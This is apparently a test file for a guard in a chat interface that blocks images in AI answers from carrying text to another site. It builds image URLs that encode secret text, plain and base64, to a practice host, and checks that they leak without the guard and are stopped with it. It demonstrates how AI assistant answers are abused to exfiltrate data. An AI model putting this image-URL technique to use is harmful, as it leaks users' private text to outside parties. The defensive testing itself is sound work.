import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { until } from '../harness/until.ts';
import { guardedChat, type GuardedChat } from './guarded-chat.ts';

const TEXT = 'the tender of the harbour is due in May';

let chat: GuardedChat;
before(async () => {
  chat = await guardedChat();
});
after(() => chat.stack.close());

/** Shows an answer with three images of another site: one of the practice sites, whose record shows what arrived. */
async function showAnswer({ page, stack }: GuardedChat): Promise<void> {
  await page.goto('https://chatgpt.com/practice/lab');
  stack.sites.clear();
  await page.evaluate((text) => {
    const answer = document.createElement('div');
    answer.dataset['messageAuthorRole'] = 'assistant';
    for (const query of [`d=${encodeURIComponent(text)}`, `d=${btoa(text)}`, 'size=640']) {
      const image = document.createElement('img');
      image.src = `https://claude.ai/practice/icon.svg?${query}`;
      answer.append(image);
    }
    document.body.append(answer);
  }, TEXT);
  await until('the harmless image', () =>
    stack.sites.received.requests.find(({ url }) => url.endsWith('?size=640')),
  );
}

test('without the guard an image in an answer takes text to another site', async () => {
  const chat = await guardedChat({ isGuarded: false });
  try {
    await showAnswer(chat);
    assert.notDeepEqual(chat.stack.sites.received.leaks(TEXT), []);
  } finally {
    await chat.stack.close();
  }
});

test('with it an image takes none, and one that would not is loaded', async () => {
  await showAnswer(chat);
  const { stack } = chat;
  const event = await until('the event', async () =>
    (await stack.events()).find(({ channel }) => channel === 'answer'),
  );
  assert.deepEqual(
    [event.role, event.outcome, event.rules, event.host],
    ['answer', 'stopped', ['block-telling-images'], 'claude.ai'],
  );
  assert.deepEqual(stack.sites.received.leaks(TEXT), []);
});
